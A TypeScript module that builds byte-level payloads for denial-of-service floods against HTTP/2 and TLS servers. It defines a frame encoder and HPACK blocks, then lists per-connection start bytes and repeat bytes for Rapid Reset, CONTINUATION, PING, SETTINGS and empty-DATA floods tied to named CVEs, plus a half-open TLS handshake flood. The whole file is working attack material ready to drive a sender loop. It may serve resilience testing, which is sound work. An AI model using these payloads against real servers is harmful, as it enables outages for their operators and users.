/** What each flood consists of: the bytes that begin a connection, and those that come again and again. */

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const DATA = 0
const HEADERS = 1
const RESET = 3
const SETTINGS = 4
const PING = 6
const CONTINUATION = 9
const END_STREAM = 1
const END_HEADERS = 4
const START = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)])

/** Indexed fields of HPACK's static table, and the authority as a literal. */
const block = (method: number): Buffer =>
  Buffer.concat([Buffer.from([0x80 | method, 0x86, 0x84, 0x41, 6]), Buffer.from('a.test')])
const GET = block(2)
const POST = block(3)
const FIELD = Buffer.concat([Buffer.from([0, 1, 0x78, 100]), Buffer.alloc(100, 'y')])

/** The first message of a handshake: version, random, no session, one suite, no compression, and no more. */
function hello(): Buffer {
  const body = Buffer.concat([Buffer.from([3, 3]), Buffer.alloc(32, 7), Buffer.from([0, 0, 2, 0xc0, 0x2f, 1, 0])])
  const message = Buffer.concat([Buffer.from([1, 0, 0, body.length]), body])
  return Buffer.concat([Buffer.from([22, 3, 1, 0, message.length]), message])
}

export interface Flood {
  readonly about: string
  readonly service: 'h2' | 'tls'
  readonly start: Buffer
  /** The i-th of what comes again and again, on one connection. null: only connections do. */
  readonly again: ((i: number) => Buffer) | null
}

export const FLOODS: Readonly<Record<string, Flood>> = {
  'rapid-reset': {
    about: 'requests that are reset at once (CVE-2023-44487)',
    service: 'h2',
    start: START,
    again: (i) =>
      Buffer.concat([
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, GET),
        frame(RESET, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
      ]),
  },
  continuation: {
    about: 'a head without end (CVE-2024-27983)',
    service: 'h2',
    start: Buffer.concat([START, frame(HEADERS, 0, 1, GET)]),
    again: () => frame(CONTINUATION, 0, 1, FIELD),
  },
  ping: {
    about: 'pings (CVE-2019-9512)',
    service: 'h2',
    start: START,
    again: () => frame(PING, 0, 0, Buffer.alloc(8, 1)),
  },
  settings: {
    about: 'settings (CVE-2019-9515)',
    service: 'h2',
    start: START,
    again: () => frame(SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0xff, 0xff])),
  },
  'empty-frames': {
    about: 'frames without content (CVE-2019-9518)',
    service: 'h2',
    start: Buffer.concat([START, frame(HEADERS, END_HEADERS, 1, POST)]),
    again: () => frame(DATA, 0, 1),
  },
  handshakes: {
    about: 'TLS handshakes that are begun and left',
    service: 'tls',
    start: hello(),
    again: null,
  },
}
